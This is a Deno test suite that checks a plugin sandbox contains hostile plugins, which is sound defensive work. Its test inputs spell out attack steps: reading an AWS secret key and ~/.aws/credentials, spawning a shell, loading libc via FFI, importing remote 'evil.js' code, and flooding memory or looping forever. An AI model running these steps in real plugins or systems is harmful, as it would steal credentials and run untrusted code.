/**
 * Hostile plugins against the real sandbox: real runner processes and real Workers. Every attempt
 * is blocked or contained, the host keeps working, and an issuance running alongside is unaffected.
 */
import { assertEquals, assertIncludes, assertTrue } from "./assert.ts";
import { callPlugin, type PluginSpec } from "../src/plugin_host/supervisor.ts";
import { setupScenario } from "./harness/scenario.ts";
import { runSentinel } from "./harness/sentinel.ts";

function spec(body: string, grants: Partial<PluginSpec> = {}): PluginSpec {
  return {
    name: "hostile",
    kind: "notifier",
    version: "0.0.1",
    source: `export default { async notify(event, ctx) { ${body} } };`,
    typescript: true,
    net: [],
    write: [],
    timeoutMs: 2_000,
    required: false,
    ...grants,
  };
}

async function attempt(body: string, grants: Partial<PluginSpec> = {}) {
  const [outcome] = await callPlugin(spec(body, grants), [{
    method: "notify",
    payload: { version: 1, type: "test", id: "t", time: "2026-01-01T00:00:00Z", data: {} },
    context: { settings: {} },
  }]);
  return outcome;
}

function assertBlocked(outcome: { ok: boolean; error?: string }, fragment: string) {
  assertEquals(outcome.ok, false, JSON.stringify(outcome));
  assertIncludes(outcome.error!, fragment);
}

Deno.test("a plugin cannot read the environment, even a secret the host process holds", async () => {
  Deno.env.set("AWS_SECRET_ACCESS_KEY", "host-secret-must-not-leak");
  try {
    const outcome = await attempt(
      `return { delivered: true, detail: Deno.env.get("AWS_SECRET_ACCESS_KEY") };`,
    );
    assertBlocked(outcome, "Requires env access");
    assertTrue(!JSON.stringify(outcome).includes("host-secret-must-not-leak"));
  } finally {
    Deno.env.delete("AWS_SECRET_ACCESS_KEY");
  }
});

Deno.test("a plugin cannot read ~/.aws/credentials or write a file", async () => {
  const home = Deno.env.get("HOME");
  assertBlocked(
    await attempt(
      `return { delivered: true, detail: await Deno.readTextFile(${
        JSON.stringify(`${home}/.aws/credentials`)
      }) };`,
    ),
    "Requires read access",
  );
  const target = `${await Deno.makeTempDir()}/pwned`;
  assertBlocked(
    await attempt(
      `await Deno.writeTextFile(${JSON.stringify(target)}, "x"); return { delivered: true };`,
    ),
    "Requires write access",
  );
  assertEquals(await Deno.stat(target).then(() => true, () => false), false);
});

Deno.test("a plugin cannot spawn a shell, use FFI or read system information", async () => {
  assertBlocked(
    await attempt(
      `await new Deno.Command("sh", { args: ["-c", "id"] }).output(); return { delivered: true };`,
    ),
    "Requires run access",
  );
  assertBlocked(
    await attempt(`Deno.dlopen("libc.so.6", {}); return { delivered: true };`),
    "Requires ffi access",
  );
  assertBlocked(
    await attempt(`return { delivered: true, detail: Deno.hostname() };`),
    "Requires sys access",
  );
});

Deno.test("network: a declared host is reachable, any other is not, and remote imports are refused", async () => {
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => new Response("pong"),
  );
  const port = server.addr.port;
  try {
    const ok = await attempt(
      `const r = await fetch("http://127.0.0.1:${port}/"); return { delivered: true, detail: await r.text() };`,
      { net: [`127.0.0.1:${port}`] },
    );
    assertEquals(ok, { ...ok, ok: true, result: { delivered: true, detail: "pong" } });
    assertBlocked(
      await attempt(`await fetch("http://localhost:${port}/"); return { delivered: true };`, {
        net: [`127.0.0.1:${port}`],
      }),
      "Requires net access",
    );
    // deno.land is on Deno's default import allow-list; --no-remote on the runner refuses it too.
    assertBlocked(
      await attempt(`await import("https://deno.land/x/evil.js"); return { delivered: true };`),
      "--no-remote",
    );
    assertBlocked(
      await attempt(`await import("https://example.com/evil.js"); return { delivered: true };`),
      "Requires import access",
    );
  } finally {
    await server.shutdown();
  }
});

Deno.test("a plugin that hangs is stopped at its timeout; the next call gets a fresh worker", async () => {
  const hang = spec(
    `if (event.data.hang) { for (;;) {} } return { delivered: true, detail: "fresh" };`,
    {
      timeoutMs: 500,
    },
  );
  const call = (hangs: boolean) => ({
    method: "notify" as const,
    payload: {
      version: 1,
      type: "test",
      id: "t",
      time: "2026-01-01T00:00:00Z",
      data: { hang: hangs },
    },
    context: { settings: {} },
  });
  const started = performance.now();
  const [hung, next] = await callPlugin(hang, [call(true), call(false)]);
  assertBlocked(hung, "timed out after 500 ms");
  assertEquals(next.ok && next.result, { delivered: true, detail: "fresh" });
  assertTrue(performance.now() - started < 10_000);
});

Deno.test("a plugin that allocates without bound ends only its own process", async () => {
  const outcome = await attempt(
    `const hoard = []; for (;;) hoard.push(new Array(10000).fill(Math.random()));`,
    { timeoutMs: 20_000 },
  );
  assertBlocked(outcome, "ended abnormally");
});

Deno.test("a plugin that throws, fails to load, lacks the handler or posts garbage fails cleanly", async () => {
  assertBlocked(await attempt(`throw new Error("boom");`), "the plugin reported: boom");
  assertBlocked(
    await attempt(
      `self.postMessage("garbage"); await new Promise((r) => setTimeout(r, 100)); return { delivered: true };`,
    ),
    "malformed",
  );
  assertBlocked(
    await attempt(`self.postMessage({ protocol: 1, id: 0, ok: "yes" }); return {};`),
    "malformed",
  );
  const broken = { ...spec(""), source: "export default {" };
  const [loadFailure] = await callPlugin(broken, [{ method: "notify", payload: {}, context: {} }]);
  assertBlocked(loadFailure, "the plugin failed");
  const [noHandler] = await callPlugin({ ...spec(""), source: "export default {};" }, [
    { method: "notify", payload: {}, context: {} },
  ]);
  assertBlocked(noHandler, "has no notify handler");
});

Deno.test("credential issuance alongside a memory-flooding plugin is unaffected", async () => {
  await using t = await setupScenario("alice");
  const [issued, flood] = await Promise.all([
    runSentinel(["credentials", "prod"], { env: t.home.env }),
    attempt(`const hoard = []; for (;;) hoard.push(new Array(10000).fill(1));`, {
      timeoutMs: 20_000,
    }),
  ]);
  assertEquals(issued.code, 0, issued.stderr);
  assertEquals(JSON.parse(issued.stdout).Version, 1);
  assertBlocked(flood, "ended abnormally");
  const after = await attempt(`return { delivered: true, detail: "still fine" };`);
  assertEquals(after.ok && after.result, { delivered: true, detail: "still fine" });
});
